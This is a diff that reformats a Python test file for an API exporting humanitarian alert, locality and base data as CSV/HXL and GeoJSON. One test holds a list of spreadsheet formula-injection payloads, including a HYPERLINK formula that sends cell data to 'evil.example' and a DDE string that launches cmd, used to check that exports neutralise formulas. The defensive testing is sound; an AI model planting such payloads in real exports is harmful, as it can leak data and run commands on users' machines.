@@ -25,8 +25,17 @@ def _hxl(content: bytes):
 def test_csv_has_a_valid_hxl_row_under_the_header(resource, world, tokens, users):
     meeting = meeting_with_details(base=world.base)
     plan_with_details(base=world.base)
-    make_alert(world.base, locality=world.uvira, threat_category="looting", description="Shops looted at the market",
-               status="acknowledged", events=True, women=2, men=1, girls=1)
+    make_alert(
+        world.base,
+        locality=world.uvira,
+        threat_category="looting",
+        description="Shops looted at the market",
+        status="acknowledged",
+        events=True,
+        women=2,
+        men=1,
+        girls=1,
+    )
     mission(localities=[world.uvira, world.sange], bases=[world.base])
     make_review(meeting, users["gender"], "returned", comment="Add women's views", direct=True, report_type="meeting")
     response = token_client(tokens.inside_key).get(f"/api/v1/{resource}/?format=csv&page_size=500")
@@ -45,10 +54,19 @@ def test_locality_csv_exact(world, tokens):
     response = token_client(tokens.narrow_key).get("/api/v1/localities/?format=csv&name=sange")
     dataset, rows = _hxl(response.content)
     assert [column.display_tag for column in dataset.columns] == [
-        "#loc+code", "#loc+name", "#adm2+name", "#adm1+name", "#geo+lat", "#geo+lon", "#geo+precision", "#date+updated",
+        "#loc+code",
+        "#loc+name",
+        "#adm2+name",
+        "#adm1+name",
+        "#geo+lat",
+        "#geo+lon",
+        "#geo+precision",
+        "#date+updated",
     ]
     sange = world.sange
-    assert [row[:7] for row in rows] == [[str(sange.uid), "Sange", "Uvira", "South Kivu", "-3.08", "29.12", sange.precision]]
+    assert [row[:7] for row in rows] == [
+        [str(sange.uid), "Sange", "Uvira", "South Kivu", "-3.08", "29.12", sange.precision]
+    ]
 
 
 def test_meeting_csv_values(world, tokens):
@@ -71,20 +89,22 @@ def test_locality_geojson_exact(world, tokens):
     sange = world.sange
     assert response.json() == {
         "type": "FeatureCollection",
-        "features": [{
-            "type": "Feature",
-            "id": str(sange.uid),
-            "geometry": {"type": "Point", "coordinates": [29.12, -3.08]},
-            "properties": {
-                "name": "Sange",
-                "territory": {"uid": str(world.uvira_t.uid), "name": "Uvira"},
-                "province": {"uid": str(world.south.uid), "name": "South Kivu"},
-                "latitude": -3.08,
-                "longitude": 29.12,
-                "precision": sange.precision,
-                "updated_at": sange.updated_at.isoformat().replace("+00:00", "Z"),
-            },
-        }],
+        "features": [
+            {
+                "type": "Feature",
+                "id": str(sange.uid),
+                "geometry": {"type": "Point", "coordinates": [29.12, -3.08]},
+                "properties": {
+                    "name": "Sange",
+                    "territory": {"uid": str(world.uvira_t.uid), "name": "Uvira"},
+                    "province": {"uid": str(world.south.uid), "name": "South Kivu"},
+                    "latitude": -3.08,
+                    "longitude": 29.12,
+                    "precision": sange.precision,
+                    "updated_at": sange.updated_at.isoformat().replace("+00:00", "Z"),
+                },
+            }
+        ],
         "next": None,
         "previous": None,
     }
@@ -94,7 +114,9 @@ def test_base_geojson_detail_is_one_feature(world, tokens):
     response = token_client(tokens.inside_key).get(f"/api/v1/bases/{world.base.uid}/?format=geojson")
     body = response.json()
     assert (body["type"], body["id"], body["geometry"]) == (
-        "Feature", str(world.base.uid), {"type": "Point", "coordinates": [29.1378, -3.3953]}
+        "Feature",
+        str(world.base.uid),
+        {"type": "Point", "coordinates": [29.1378, -3.3953]},
     )
     assert body["properties"]["code"] == "cob-uvira"
     assert body["properties"]["coverage"] == ["Sange", "Uvira"]
@@ -137,17 +159,36 @@ def test_page_size_is_capped_at_500(world, tokens):
 def test_bad_cursor_answers_404_with_a_message(world, tokens):
     response = token_client(tokens.inside_key).get("/api/v1/meetings/?cursor=garbage")
     assert (response.status_code, response.json()) == (
-        404, {"detail": "This page link is not valid. Start again from the first page."}
+        404,
+        {"detail": "This page link is not valid. Start again from the first page."},
     )
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "@SUM(1+1)*cmd|' /C calc'!A0", "+243 thanks", "-1+2",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+243 thanks",
+    "-1+2",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(world, tokens):
-    alerts = [make_alert(world.base, locality=world.sange, threat_category="looting", description=text,
-                         status="acknowledged", events=True, women=2, men=1, girls=1) for text in FORMULAS]
+    alerts = [
+        make_alert(
+            world.base,
+            locality=world.sange,
+            threat_category="looting",
+            description=text,
+            status="acknowledged",
+            events=True,
+            women=2,
+            men=1,
+            girls=1,
+        )
+        for text in FORMULAS
+    ]
     mission(localities=[world.uvira], bases=[world.base], title="=1+1")
     client = token_client(tokens.inside_key)
     content = client.get("/api/v1/alerts/?format=csv&ordering=created_at").content
@@ -161,7 +202,9 @@ def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(world, tokens)
     _dataset, rows = _hxl(client.get("/api/v1/missions/?format=csv").content)
     assert [row[1] for row in rows] == ["'=1+1"]
     # JSON and GeoJSON carry the text as it is
-    assert [row["description"] for row in client.get("/api/v1/alerts/?ordering=created_at").json()["results"]] == FORMULAS
+    assert [
+        row["description"] for row in client.get("/api/v1/alerts/?ordering=created_at").json()["results"]
+    ] == FORMULAS
 
 
 def test_every_cell_of_the_renderer_goes_through_the_one_function(monkeypatch):
